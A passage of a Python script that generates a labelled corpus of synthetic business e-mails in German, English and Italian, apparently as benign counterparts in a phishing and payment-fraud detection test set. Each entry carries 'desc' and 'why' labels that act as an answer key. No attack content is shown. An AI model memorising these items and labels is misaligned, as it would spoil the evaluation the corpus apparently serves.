   why="Insurer's real domain and outbound MTA, no attachment, no credential request; counterpart to attack 04.")

MX(B, "05-de-newsletter-flottenmanagement", "de",
   dict(helo="mta41.crsend.com", rdns="mta41.crsend.com", ip="217.175.206.41", bstyle="part",
        return_path="bounce-11842-88213-401-lena.vogel=example.com@crsend.com",
        headers=["List-Unsubscribe: <https://seu2.cleverreach.com/rmftlp.php?cid=88213&mid=401&h=6a2c>, <mailto:unsubscribe-11842-88213-401@crsend.com>",
                 "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk",
                 "X-CSA-Complaints: csa-complaints@eco.de"]),
   frm=("Flottenmanagement Aktuell", "newsletter@flottenmanagement-aktuell.de"), to=[st("vogel")],
   date="2026-11-26 07:00:12 +0100", charset="utf-8", cte="quoted-printable",
   subject="Newsletter 47/2026: Schadenquoten Kfz-Flotte, E-Lkw-Versicherung, Fahrerunterweisung",
   text="""Flottenmanagement Aktuell – Newsletter 47/2026

Kfz-Flotte: Schadenquoten 2026 steigen weiter
Die Reparaturkosten je Kaskoschaden liegen laut aktuellen Branchenzahlen erneut deutlich über Vorjahr. Versicherer reagieren mit Sanierungen bei Flotten mit hoher Frequenz.
https://www.flottenmanagement-aktuell.de/artikel/schadenquoten-2026

E-Lkw: Was Versicherer bei Batterieschäden wirklich zahlen
Unser Überblick zu Allgefahrendeckungen, Ladeinfrastruktur und Wertminderung.
https://www.flottenmanagement-aktuell.de/artikel/e-lkw-batterie

Pflicht zur Fahrerunterweisung: Checkliste für 2027
https://www.flottenmanagement-aktuell.de/checkliste-unterweisung

Sie erhalten diesen Newsletter, weil Sie sich am 14.03.2024 mit lena.vogel@example.com angemeldet haben.
Abmelden: https://seu2.cleverreach.com/rmftlp.php?cid=88213&mid=401&h=6a2c
Fachverlag Flotte & Mobilität GmbH, Kaiserstraße 61, 60329 Frankfurt am Main
""",
   html="""<html><body style="font-family:Georgia,serif;font-size:15px;color:#222;background:#f4f4f4">
<table width="640" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#14365a;color:#fff;padding:16px 22px;font-size:22px">Flottenmanagement Aktuell <span style="font-size:13px">· 47/2026</span></td></tr>
<tr><td style="padding:20px 22px"><h3><a href="https://www.flottenmanagement-aktuell.de/artikel/schadenquoten-2026" style="color:#14365a">Kfz-Flotte: Schadenquoten 2026 steigen weiter</a></h3>
<p>Die Reparaturkosten je Kaskoschaden liegen laut aktuellen Branchenzahlen erneut deutlich über Vorjahr. Versicherer reagieren mit Sanierungen bei Flotten mit hoher Frequenz.</p>
<h3><a href="https://www.flottenmanagement-aktuell.de/artikel/e-lkw-batterie" style="color:#14365a">E-Lkw: Was Versicherer bei Batterieschäden wirklich zahlen</a></h3>
<p>Unser Überblick zu Allgefahrendeckungen, Ladeinfrastruktur und Wertminderung.</p>
<h3><a href="https://www.flottenmanagement-aktuell.de/checkliste-unterweisung" style="color:#14365a">Pflicht zur Fahrerunterweisung: Checkliste für 2027</a></h3></td></tr>
<tr><td style="padding:14px 22px;font-size:11px;color:#777;font-family:Arial">Sie erhalten diesen Newsletter, weil Sie sich am 14.03.2024 mit lena.vogel@example.com angemeldet haben.
<a href="https://seu2.cleverreach.com/rmftlp.php?cid=88213&amp;mid=401&amp;h=6a2c">Abmelden</a><br>Fachverlag Flotte &amp; Mobilität GmbH, Kaiserstraße 61, 60329 Frankfurt am Main</td></tr></table></body></html>""",
   desc="Subscribed trade newsletter (fleet management) sent through CleverReach with one-click unsubscribe.",
   why="Opt-in bulk mail from a reputable ESP with consistent List-Unsubscribe; no credential or payment request.")

MX(B, "06-de-bodyshop-urgent-payment-release", "de",
   dict(helo="mail.karosserie-schmitt-hh.de", rdns="p5b2a91c4.dip0.t-ipconnect.de", ip="91.42.145.196", tls="v12", mailer=MSO,
        msgid="<002b01dc5180$%s$%s@karosserie-schmitt-hh.de>" % (h("b06", 8), h("b06b", 8))),
   frm=("Karosserie Schmitt GmbH", "info@karosserie-schmitt-hh.de"), to=[st("schulte")],
   date="2026-11-27 11:48:30 +0100", charset="iso-8859-1", cte="quoted-printable", bstyle="legacy",
   subject="Dringend: Freigabe Reparaturkosten HH-SH 2210 – Fahrzeug steht abholbereit",
   text="""Hallo Herr Schulte,

der Actros von Spedition Hansen (HH-SH 2210, Ihr Schaden SCH-2026-03988) ist fertig und steht seit gestern abholbereit. Herr Hansen ruft hier stündlich an, weil das Fahrzeug ab Montag wieder in der Tour gebraucht wird.

Die Rechnung (R-26-0917, 11.406,52 EUR brutto) haben wir Ihnen am 20.11. geschickt. Der Versicherer hat uns gesagt, die Kostenübernahmeerklärung kommt über Sie als Makler. Können Sie uns bitte heute noch die Freigabe bzw. die Kostenübernahme schicken? Dann geben wir das Fahrzeug sofort raus.

Bankverbindung wie immer laut Rechnung, da hat sich nichts geändert.

Vielen Dank und Gruß aus Wandsbek
Dirk Schmitt
Karosserie Schmitt GmbH
Kfz-Meisterbetrieb | Lackiererei | Unfallinstandsetzung
Am Stadtrand 23, 22047 Hamburg | Tel. 040 693 18 44
""",
   desc="Genuine urgent request from a known body shop to release a repair cost approval; references existing claim and prior invoice.",
   why="Known repairer on its own domain/DSL line; urgency is operational; explicitly no bank change; no new payee.")

MX(B, "07-de-microsoft-account-security-alert", "de",
   dict(helo="NAM02-BN1-obe.outbound.protection.outlook.com", rdns="mail-bn1nam02on2050.outbound.protection.outlook.com", ip="40.107.212.50",
        return_path="account-security-noreply@accountprotection.microsoft.com", bstyle="part",
        msgid="<%s@BN8PR13MB2740.namprd13.prod.outlook.com>" % h("b07", 28).upper()),
   frm=("Microsoft-Kontoteam", "account-security-noreply@accountprotection.microsoft.com"), to=[st("lang")],
   date="2026-11-09 13:02:44 -0800", charset="utf-8", cte="quoted-printable",
   subject="Microsoft-Konto: Ungewöhnliche Anmeldeaktivität",
   text="""Microsoft-Konto

Ungewöhnliche Anmeldeaktivität

Wir haben eine ungewöhnliche Anmeldung beim Microsoft-Konto to*****@example.com festgestellt.

Anmeldedetails
Land/Region: Polen
IP-Adresse: 83.12.41.166
Datum: 09.11.2026 22:01 (MEZ)
Plattform: Windows
Browser: Edge

Wenn Sie das waren, können Sie diese E-Mail ignorieren.

Falls nicht, helfen wir Ihnen, Ihr Konto zu schützen. Überprüfen Sie Ihre letzten Aktivitäten unter:
https://account.live.com/Activity

Sie können Ihre Einstellungen für Sicherheitsbenachrichtigungen unter https://account.live.com/SecurityNotifications/Update ändern.

Danke,
Das Microsoft-Kontoteam

Datenschutzbestimmungen: https://go.microsoft.com/fwlink/?LinkId=521839
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""",
   html="""<html><body style="font-family:'Segoe UI',Tahoma,Arial,sans-serif;font-size:14px;color:#2a2a2a">
<table width="640"><tr><td style="font-size:17px;color:#707070">Microsoft-Konto</td></tr>
<tr><td style="font-size:41px;color:#2672ec">Ungewöhnliche Anmeldeaktivität</td></tr>
<tr><td style="padding-top:20px">Wir haben eine ungewöhnliche Anmeldung beim Microsoft-Konto <a href="mailto:to*****@example.com">to*****@example.com</a> festgestellt.</td></tr>
<tr><td style="padding-top:20px"><b>Land/Region:</b> Polen<br><b>IP-Adresse:</b> 83.12.41.166<br><b>Datum:</b> 09.11.2026 22:01 (MEZ)<br><b>Plattform:</b> Windows<br><b>Browser:</b> Edge</td></tr>
<tr><td style="padding-top:20px">Wenn Sie das waren, können Sie diese E-Mail ignorieren.</td></tr>
<tr><td style="padding-top:20px">Falls nicht, helfen wir Ihnen, Ihr Konto zu schützen. <a href="https://account.live.com/Activity" style="color:#2672ec">Aktivität überprüfen</a></td></tr>
<tr><td style="padding-top:20px;font-size:12px">Danke,<br>Das Microsoft-Kontoteam</td></tr>
<tr><td style="padding-top:20px;font-size:11px;color:#777"><a href="https://go.microsoft.com/fwlink/?LinkId=521839">Datenschutzbestimmungen</a> · Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr></table></body></html>""",
   desc="Genuine Microsoft account security notification (sign-in from the Poznań office IP during IT admin's visit).",
   why="Real Microsoft sender/infrastructure, links only to account.live.com/microsoft.com; looks alarming but is genuine.")

MX(B, "08-de-colleague-private-tonline", "de",
   dict(helo="mailout12.t-online.de", rdns="mailout12.t-online.de", ip="194.25.134.86", bstyle="apple",
        mailer="X-Mailer: Apple Mail (2.3826.400.131.1.6)", msgid="<%s@t-online.de>" % "-".join([h("b08", 8).upper(), h("b08a", 4).upper(), h("b08b", 4).upper(), h("b08c", 4).upper(), h("b08d", 12).upper()]),
        hops=["from smtpclient.apple (p4fd3a112.dip0.t-ipconnect.de [79.211.161.18])\n by fwd71.aul.t-online.de with (TLSv1.3:TLS_AES_256_GCM_SHA384 encrypted)\n esmtp id 1tHqZk-2Yf5u40; {DATE}"]),
   frm=("Markus Schulte", "m.schulte.hh@t-online.de"), to=[st("vogel")], cc=[("Markus Schulte", "markus.schulte@example.com")],
   date="2026-11-13 07:51:19 +0100", charset="utf-8", cte="base64",
   subject="Bin heute krank – offene Schäden Spedition Hansen",
   text="""Moin Lena,

ich liege mit Fieber flach und komme heute nicht ins Büro, Krankmeldung schicke ich Anja gleich separat. Der Laptop ist im Büro, deshalb schreibe ich dir von privat.

Für deinen Termin mit Hansen um 11 Uhr kurz der Stand aus meinem Kopf:
- SCH-2026-03988 (Actros, Auffahrunfall A7): Gutachten liegt vor, Kostenübernahme beim Versicherer beantragt, Werkstatt ist Karosserie Schmitt.
- SCH-2026-04102 (Glasbruch, 2 Fzg.): erledigt, Zahlung letzte Woche raus.
- SCH-2026-04417 (MAN TGX, HH-EG 4471): warten noch aufs Gutachten von Lindner.

Die Details stehen alle im Schadensystem. Bitte nichts an die private Adresse schicken, ich lese ab Montag wieder normal im Büro.

Gruß
Markus
""",
   desc="Colleague writes from private t-online address when sick; informational only, copies own work address.",
   why="No request for money/credentials/data; consistent with internal knowledge; asks not to use private address.")

# -------------------------- English ------------------------------------------
MX(B, "09-en-client-complaint-certificates", "en",
   dict(helo="mail-wm1-f52.google.com", rdns="mail-wm1-f52.google.com", ip="209.85.128.52", bstyle="gmail",
        msgid="<CAH%s@mail.gmail.com>" % base64.b64encode(hashlib.sha256(b"b09").digest()).decode()[:40].replace("/", "x")),
   frm=("Gareth Pryce", "gareth.pryce@harrowhaulage.co.uk"), to=[st("whitfield")], cc=[st("collins")],
   date="2026-11-19 16:22:07 +0000", charset="utf-8", cte="quoted-printable",
   subject="Motor fleet renewal – still no certificates, this is not acceptable",
   text="""James,

I have now chased three times for the motor certificates for the six new units we added on 1 November (reg. numbers in my email of 3 Nov). Two of those trucks have been sitting in the yard because my transport manager quite rightly will not send them out without proof of cover, and we have already had to sub-contract two loads at our own cost.

When we moved the fleet to you last year the whole point was better service than we had before. At the moment I'm not seeing it.

I need the certificates by end of play tomorrow and I'd like a call from you, not an automated acknowledgement. I will also want to discuss the sub-contracting costs.

Regards,

Gareth Pryce
Managing Director
Harrow Haulage Ltd
Unit 4, Northolt Road Industrial Estate, Harrow HA2 0EE
""",
   desc="Angry but genuine client complaint about missing motor certificates, from the client's Google Workspace domain.",
   why="Known client, no links or attachments, legitimate service escalation; strong emotional language but not fraud.")

MX(B, "10-en-docusign-genuine-toba", "en",
   dict(helo="mailout-eu.docusign.net", rdns="mail-eu1.docusign.net", ip="64.207.219.137", bstyle="part",
        return_path="bounces+3c7e41-%s@eumail.docusign.net" % h("b10", 8),
        msgid="<%s@docusign.net>" % h("b10m", 32)),
   frm=("Harbour Marine Underwriting via DocuSign", "dse@eumail.docusign.net"), to=[st("whitfield")],
   reply_to=("Emma Castell", "emma.castell@harbour-mu.co.uk"),
   date="2026-11-04 11:09:31 +0000", charset="utf-8", cte="base64",
   subject="Please DocuSign: Harbour Marine – Terms of Business Agreement 2027 – Example Group",
   text="""Emma Castell sent you a document to review and sign.

REVIEW DOCUMENT
https://eu.docusign.net/Signing/EmailStart.aspx?a=8d2e5c1b-3f0a-4e7b-9c21-6a4d0e9b7f13&etti=24&acct=4f91c2d7-8e3b-4a0d-b6c5-2d7e9f1a3b58&er=5c0d7a2e-91f4-4b3e-8a6d-0e2f7c9b1d44

Emma Castell
emma.castell@harbour-mu.co.uk

James, as discussed on the phone last week – our 2027 TOBA for your marine cargo and goods-in-transit business. Only change vs 2026 is the premium settlement period (now 60 days). Thanks, Emma

Do Not Share This Email
This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit DocuSign.com, click 'Access Documents', and enter the security code:
8D2E5C1B3F0A4E7B9C216A4D0E9B7F133

About DocuSign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
""",
   html="""<html><body style="font-family:Helvetica,Arial,sans-serif;background:#eaeaea;font-size:15px">
<table width="640" align="center" cellpadding="0" cellspacing="0"><tr><td style="background:#1e4ca1;padding:30px;color:#fff;text-align:center">
<p style="font-size:16px">Emma Castell sent you a document to review and sign.</p>
<a href="https://eu.docusign.net/Signing/EmailStart.aspx?a=8d2e5c1b-3f0a-4e7b-9c21-6a4d0e9b7f13&amp;etti=24&amp;acct=4f91c2d7-8e3b-4a0d-b6c5-2d7e9f1a3b58&amp;er=5c0d7a2e-91f4-4b3e-8a6d-0e2f7c9b1d44" style="background:#ffc423;color:#333;padding:10px 24px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></td></tr>
<tr><td style="background:#fff;padding:24px"><b>Emma Castell</b><br><a href="mailto:emma.castell@harbour-mu.co.uk">emma.castell@harbour-mu.co.uk</a>
<p>James, as discussed on the phone last week – our 2027 TOBA for your marine cargo and goods-in-transit business. Only change vs 2026 is the premium settlement period (now 60 days). Thanks, Emma</p></td></tr>
<tr><td style="padding:24px;font-size:12px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit DocuSign.com, click 'Access Documents', and enter the security code: 8D2E5C1B3F0A4E7B9C216A4D0E9B7F133</td></tr></table></body></html>""",
   desc="Genuine DocuSign envelope from a known underwriter (TOBA renewal agreed by phone), sent by DocuSign EU.",
   why="Real DocuSign infrastructure and signing domain; expected document; counterpart to attack 12.")

MX(B, "11-en-atlassian-password-reset", "en",
   dict(helo="a48-105.smtp-out.amazonses.com", rdns="a48-105.smtp-out.amazonses.com", ip="54.240.48.105", bstyle="part",
        return_path="010001%s-%s-000000@mail-us.atlassian.net" % (h("b11", 14), h("b11x", 8)),
        msgid="<010001%s-%s-000000@email.amazonses.com>" % (h("b11m", 14), h("b11y", 8))),
   frm=("Atlassian", "noreply@id.atlassian.com"), to=[st("neumann")],
   date="2026-11-23 08:41:05 +0000", charset="utf-8", cte="quoted-printable",
   subject="Reset your Atlassian password",
   text="""Reset your password

We heard you need a password reset. Click the link below and you'll be redirected to a secure site from which you can set a new password.

Reset password:
https://id.atlassian.com/login/resetpassword?token=eyJraWQiOiJhdGwtcmVzZXQiLCJhbGciOiJIUzI1NiJ9.Y2xhdWRpYS5uZXVtYW5uQGV4YW1wbGUuY29t.u3Q9&continue=https%3A%2F%2Fexamplegroup.atlassian.net

If you didn't request a password reset, you can safely ignore this email. This link expires in 24 hours.

This message was sent to you by Atlassian Cloud
Atlassian, 350 Bush Street, Floor 13, San Francisco, CA 94104, USA
""",
   html="""<html><body style="font-family:-apple-system,'Segoe UI',Roboto,Arial,sans-serif;font-size:14px;color:#172b4d">
<table width="520" align="center" cellpadding="20"><tr><td><b style="color:#0052cc;font-size:18px">ATLASSIAN</b></td></tr>
<tr><td><h2>Reset your password</h2><p>We heard you need a password reset. Click the link below and you'll be redirected to a secure site from which you can set a new password.</p>
<p><a href="https://id.atlassian.com/login/resetpassword?token=eyJraWQiOiJhdGwtcmVzZXQiLCJhbGciOiJIUzI1NiJ9.Y2xhdWRpYS5uZXVtYW5uQGV4YW1wbGUuY29t.u3Q9&amp;continue=https%3A%2F%2Fexamplegroup.atlassian.net" style="background:#0052cc;color:#fff;padding:8px 16px;text-decoration:none;border-radius:3px">Reset password</a></p>
<p style="font-size:12px;color:#6b778c">If you didn't request a password reset, you can safely ignore this email. This link expires in 24 hours.</p></td></tr>
<tr><td style="font-size:11px;color:#6b778c">This message was sent to you by Atlassian Cloud<br>Atlassian, 350 Bush Street, Floor 13, San Francisco, CA 94104, USA</td></tr></table></body></html>""",
   desc="Genuine password-reset e-mail requested by the compliance officer for the company's Confluence (Atlassian Cloud).",
   why="Real Atlassian sender via Amazon SES, link to id.atlassian.com; user-initiated.")

MX(B, "12-en-newsletter-fleet-risk-weekly", "en",
   dict(helo="mail190.atl121.mcdlv.net", rdns="mail190.atl121.mcdlv.net", ip="198.2.190.121", bstyle="part",
        return_path="bounce-mc.us14_61724408.5123981-sarah.collins=example.com@mail190.atl121.mcdlv.net",
        headers=["List-Unsubscribe: <https://fleetriskweekly.us14.list-manage.com/unsubscribe?u=6f2a1c&id=8b3d40e1&e=2e9c&c=5123981>, <mailto:unsubscribe-mc.us14_6f2a1c.5123981-2e9c@mailin1.us14.mcsv.net?subject=unsubscribe>",
                 "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "List-Id: 6f2a1c8b3d40e1mc list <6f2a1c8b3d40e1mc.5123981.list-id.mcsv.net>",
                 "X-MC-User: 6f2a1c8b3d40e1", "Precedence: bulk", "X-Campaign: mailchimp6f2a1c.5123981"]),
   frm=("Fleet Risk Weekly", "editor@fleetriskweekly.co.uk"), to=[st("collins")],
   date="2026-11-12 06:30:01 +0000", charset="utf-8", cte="quoted-printable",
   subject="Fleet Risk Weekly: whiplash tariff review, telematics and premiums, DVSA enforcement",
   text="""FLEET RISK WEEKLY – 12 November 2026

1. Whiplash tariff review: what the consultation means for fleet claims
https://fleetriskweekly.co.uk/2026/11/whiplash-tariff-review

2. Do telematics discounts survive renewal? Underwriters speak
https://fleetriskweekly.co.uk/2026/11/telematics-discounts

3. DVSA roadside enforcement figures for Q3
https://fleetriskweekly.co.uk/2026/11/dvsa-q3

You are receiving this because you subscribed at fleetriskweekly.co.uk.
Unsubscribe: https://fleetriskweekly.us14.list-manage.com/unsubscribe?u=6f2a1c&id=8b3d40e1&e=2e9c&c=5123981
Fleet Risk Media Ltd, 71 Gracechurch Street, London EC3V 0AS
""",
   html="""<html><body style="margin:0;background:#f2f2f2;font-family:Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#c8102e;color:#fff;padding:18px;font-size:24px;font-weight:bold">FLEET RISK WEEKLY</td></tr>
<tr><td style="padding:18px;font-size:15px">
<p><a href="https://fleetriskweekly.co.uk/2026/11/whiplash-tariff-review" style="color:#c8102e;font-weight:bold">Whiplash tariff review: what the consultation means for fleet claims</a></p>
<p><a href="https://fleetriskweekly.co.uk/2026/11/telematics-discounts" style="color:#c8102e;font-weight:bold">Do telematics discounts survive renewal? Underwriters speak</a></p>
<p><a href="https://fleetriskweekly.co.uk/2026/11/dvsa-q3" style="color:#c8102e;font-weight:bold">DVSA roadside enforcement figures for Q3</a></p></td></tr>
<tr><td style="padding:14px;font-size:11px;color:#777">You are receiving this because you subscribed at fleetriskweekly.co.uk. <a href="https://fleetriskweekly.us14.list-manage.com/unsubscribe?u=6f2a1c&amp;id=8b3d40e1&amp;e=2e9c&amp;c=5123981">Unsubscribe</a><br>Fleet Risk Media Ltd, 71 Gracechurch Street, London EC3V 0AS</td></tr>
<tr><td><img src="https://fleetriskweekly.us14.list-manage.com/track/open.php?u=6f2a1c&amp;id=5123981&amp;e=2e9c" width="1" height="1" alt=""></td></tr></table></body></html>""",
   desc="Subscribed UK trade newsletter via Mailchimp (list headers, tracking pixel).",
   why="Opt-in bulk mail; reputable ESP; no fraud content.")

MX(B, "13-en-loss-adjuster-fee-final-reminder", "en",
   M365("b13", "EUR03-AM7", "mail-am7eur03on2", "40.107.105."),
   frm=("Pennine Loss Adjusters – Accounts", "accounts@pennine-la.co.uk"), to=[st("collins")], cc=[st("whitfield")],
   date="2026-12-01 09:14:55 +0000", charset="iso-8859-1", cte="quoted-printable",
   subject="FINAL REMINDER – fee note PLA-26-3318 overdue (CLM/UK/26/3902)",
   text="""Dear Sarah,

Our fee note PLA-26-3318 dated 15 September 2026 for the investigation and final report on CLM/UK/26/3902 (Harrow Haulage, vehicle fire at Park Royal depot) remains unpaid and is now 47 days overdue.

Amount outstanding: £4,860.00 (incl. VAT)

Under our standing terms of engagement with Example Group, we will have to place new instructions on hold if this is not settled or queried by 8 December. I appreciate this may simply be stuck in your approval workflow, so a quick update would be much appreciated.

Our bank details are unchanged and as shown on the attached copy:
NatWest, sort code 60-16-13, account 48291057 (IBAN %s)

Kind regards,

Helen Marsh
Credit Control
Pennine Loss Adjusters Ltd
Registered in England No. 06722184 | 3 Whitworth Street, Manchester M1 3GQ
""" % fmt_iban(IBAN_GB_PENNINE),
   attachments=[P("PLA-26-3318_copy.pdf", "Pennine Loss Adjusters Ltd - Fee note PLA-26-3318 (COPY)",
                  ["Client: Example Group (UK branch)", "Claim: CLM/UK/26/3902", "Fee: GBP 4,050.00  VAT GBP 810.00  Total GBP 4,860.00",
                   "NatWest 60-16-13 48291057"])],
   desc="Genuine final payment reminder from the panel loss adjuster for an overdue fee note; bank details unchanged.",
   why="Known supplier's own M365 tenant; references real claim; threat is commercial (hold instructions), not a payment diversion.")

MX(B, "14-en-github-device-verification", "en",
   dict(helo="out-21.smtp.github.com", rdns="out-21.smtp.github.com", ip="192.30.252.204", bstyle="part",
        return_path="noreply@github.com", msgid="<%s.%s@github.com>" % (h("b14", 20), hnum("b14", 8)),
        headers=["X-GitHub-Reason: account_security", "X-Auto-Response-Suppress: All"]),
   frm=("GitHub", "noreply@github.com"), to=[st("lang")],
   date="2026-11-25 09:33:18 +0100", charset="utf-8", cte="7bit",
   subject="[GitHub] Please verify your device",
   text="""Hey tlang-eg!

A sign in attempt requires further verification because we did not recognize your device. To complete the sign in, enter the verification code on the unrecognized device.

Device: Firefox on Windows
Verification code: 482913

If you did not attempt to sign in to your account, your password may be compromised. Visit https://github.com/settings/security to create a new, strong password for your GitHub account.

If you'd like to automatically verify devices in the future, consider enabling two-factor authentication on your account. Visit https://docs.github.com/articles/configuring-two-factor-authentication to learn about two-factor authentication.

If you decide to enable two-factor authentication, ensure you retain access to one or more account recovery methods. See https://docs.github.com/articles/configuring-two-factor-authentication-recovery-methods in the GitHub Help.

Thanks,
The GitHub Team
""",
   desc="Genuine GitHub device-verification code for the IT administrator.",
   why="Real GitHub mail infrastructure; code, no clickable login; user-initiated.")

MX(B, "15-en-internal-cfo-ipt-payment", "en", INTERNAL("b15", "EXHH02"),
   frm=("Matthias Hoffmann", "matthias.hoffmann@example.com"), to=[st("whitfield")], cc=[st("krüger"), st("becker")],
   date="2026-11-26 15:12:40 +0100", charset="utf-8", cte="quoted-printable",
   subject="URGENT: IPT Q3 payment must leave today",
   text="""James,

HMRC's deadline for the Q3 Insurance Premium Tax payment is Monday 30 November, and with the weekend and the Faster Payments cut-off I want the payment out of the UK client-money account today.

The payment is set up in the banking portal as a standard HMRC payment to the usual IPT reference (XIPT00001847562), amount £38,412.67, and Sabine has already done the first approval in the payment workflow. It needs your second approval as UK signatory before 16:00 UK time.

Please do not use any payment details from e-mails – only the HMRC template that is already stored in the portal. Call me on my mobile if anything looks different.

Thanks,
Matthias

Matthias Hoffmann
CFO | Example Group
""",
   desc="Genuine urgent internal payment request from the CFO via internal relay, referencing the existing dual-approval workflow.",
   why="Internal origin; no new payee or bank data; process-compliant (stored template, four-eyes).")

# -------------------------- Italiano -----------------------------------------
FERR = dict(helo="smtpcmd0871.aruba.it", rdns="smtpcmd0871.aruba.it", ip="62.149.156.71", bstyle="tb", mailer=TB)

MX(B, "16-it-ferretti-premium-payment-confirmation", "it",
   dict(FERR, msgid="<%s-%s@ferretti-trasporti.it>" % (h("b16", 8), h("b16a", 4))),
   frm=("Amministrazione Ferretti Trasporti", "amministrazione@ferretti-trasporti.it"), to=[st("galli")],
   date="2026-11-30 12:04:19 +0100", charset="iso-8859-15", cte="quoted-printable",
   subject="Pagamento rata premio polizza flotta 88/FL/2026/0147 – contabile",
   text="""Buongiorno dott.ssa Galli,

in allegato la contabile del bonifico di 42.615,00 € disposto oggi a favore del Vostro conto premi separato, a saldo della rata di dicembre della polizza flotta n. 88/FL/2026/0147 (avviso di pagamento del 16/11/2026).

Vi ricordiamo che il conguaglio della regolazione premio a nostro favore (14.280,00 €) va accreditato come sempre sul nostro conto presso Banco BPM, IBAN %s: le nostre coordinate bancarie NON sono cambiate. Abbiamo ricevuto nei giorni scorsi una mail sospetta a nome nostro da un dominio simile (ferretti-trasporti.com) – vi preghiamo di ignorarla.

Cordiali saluti

Paola Rinaldi
Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 42 – 37135 Verona
Tel. +39 045 820 4711 – P.IVA %s
""" % (fmt_iban(IBAN_FERRETTI_GENUINE), IT_PIVA_FERRETTI),
   attachments=[P("Contabile_bonifico_30112026.pdf", "Banco BPM - Contabile bonifico SEPA",
                  ["Ordinante: Ferretti Trasporti S.p.A.", "Beneficiario: Example Group - conto premi separato", "Importo: 42.615,00 EUR",
                   "Causale: Rata dicembre polizza 88/FL/2026/0147"])],
   desc="Genuine client premium payment confirmation with bank slip; also warns about the look-alike domain (cf. attack 17).",
   why="Client's real domain on Aruba; payment to broker, no new bank details; content confirms unchanged IBAN.")

MX(B, "17-it-ferretti-claim-notification", "it",
   dict(FERR, mailer="X-Mailer: iPhone Mail (22B91)", bstyle="apple", msgid="<%s@ferretti-trasporti.it>" % "-".join([h("b17", 8).upper(), h("b17a", 4).upper(), h("b17b", 12).upper()])),
   frm=("Chiara Colombo", "c.colombo@ferretti-trasporti.it"), to=[st("bianchi")], cc=[st("rossi")],
   date="2026-11-14 06:48:02 +0100", charset="utf-8", cte="quoted-printable",
   subject="Denuncia sinistro – trattore DK 482 ZT, A1 km 312",
   text="""Buongiorno Marco,

ti segnalo un sinistro avvenuto stanotte alle 3:40 sulla A1 al km 312 direzione Nord (tra Valdichiana e Arezzo). Il nostro trattore DK 482 ZT con semirimorchio AF 17734 è stato tamponato da un'auto in fase di sorpasso; l'autista sta bene, danni al paraurti posteriore e ai fanali del semirimorchio, l'auto ha danni seri.

È intervenuta la Polizia Stradale, abbiamo compilato il CAI con la controparte (lo trovi in allegato, foto in arrivo dall'autista oggi pomeriggio). La merce non risulta danneggiata, il viaggio è proseguito.

Puoi aprire la pratica e dirmi se serve altro? Il mezzo lo portiamo lunedì in officina a Verona.

Grazie, buona giornata
Chiara

Chiara Colombo
Fleet Manager – Ferretti Trasporti S.p.A.
Inviato da iPhone
""",
   attachments=[P("CAI_DK482ZT_14112026.pdf", "Constatazione amichevole di incidente (CAI)",
                  ["Veicolo A: DK 482 ZT + AF 17734 (Ferretti Trasporti S.p.A.)", "Luogo: A1 km 312 dir. Nord", "Data: 14/11/2026 ore 03:40"])],
   desc="Genuine first notification of loss from the client's fleet manager with accident report (CAI) PDF.",
   why="Known contact on genuine domain; typical claims workflow; no payment or link.")

MX(B, "18-it-newsletter-broker-notizie", "it",
   dict(helo="mta-e21.mailup.net", rdns="mta-e21.mailup.net", ip="5.2.81.21", bstyle="part",
        return_path="bounce-2211-77480-giulia.rossi=example.com@ml.brokernotizie.it",
        headers=["List-Unsubscribe: <https://brokernotizie.musvc2.net/e/u?q=A%3d7%26B%3dW%26E%3dK>, <mailto:unsubscribe-77480@ml.brokernotizie.it>",
                 "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk"]),
   frm=("Broker Notizie", "newsletter@brokernotizie.it"), to=[st("rossi")],
   date="2026-11-20 08:00:05 +0100", charset="iso-8859-1", cte="quoted-printable",
   subject="Broker Notizie n. 44 – Rc auto flotte, IDD e formazione 2027, calendario scadenze",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;background:#efefef">
<table width="620" align="center" cellpadding="16" style="background:#fff">
<tr><td style="background:#004b87;color:#fff;font-size:22px">Broker Notizie <span style="font-size:13px">n. 44 - 20 novembre 2026</span></td></tr>
<tr><td><h3><a href="https://www.brokernotizie.it/rc-auto-flotte-tariffe-2027" style="color:#004b87">Rc auto flotte: le tariffe 2027 tra inflazione dei ricambi e nuovi sistemi ADAS</a></h3>
<p>Gli assicuratori rivedono i parametri per le flotte commerciali: cosa cambia per i broker al rinnovo.</p>
<h3><a href="https://www.brokernotizie.it/idd-formazione-2027" style="color:#004b87">IDD: le 30 ore di aggiornamento professionale per il 2027</a></h3>
<p>Tempi, modalità e controlli per gli intermediari iscritti al RUI.</p>
<h3><a href="https://www.brokernotizie.it/scadenze-dicembre" style="color:#004b87">Calendario delle scadenze di dicembre</a></h3></td></tr>
<tr><td style="font-size:11px;color:#777">Ricevi questa newsletter perché ti sei iscritto su brokernotizie.it. <a href="https://brokernotizie.musvc2.net/e/u?q=A%3d7%26B%3dW%26E%3dK">Cancella l'iscrizione</a><br>
Editoriale Assicurativa srl - Via Larga 9, 20122 Milano - P.IVA 09814220961</td></tr></table></body></html>""",
   desc="Subscribed Italian insurance-broker trade newsletter (HTML only) via MailUp.",
   why="Opt-in bulk mail with list headers; content editorial only.")

MX(B, "19-it-colleague-private-gmail", "it", GMAIL("b19"),
   frm=("Giulia Rossi", "giulia.rossi.mi@gmail.com"), to=[st("bianchi")],
   date="2026-11-16 08:12:47 +0100", charset="utf-8", cte="quoted-printable",
   subject="sono dal medico – perito Ferretti",
   text="""Ciao Marco,

sono dal pediatra con la piccola, arrivo in ufficio verso le 11. Ti scrivo dalla mail personale perché il telefono aziendale è scarico.

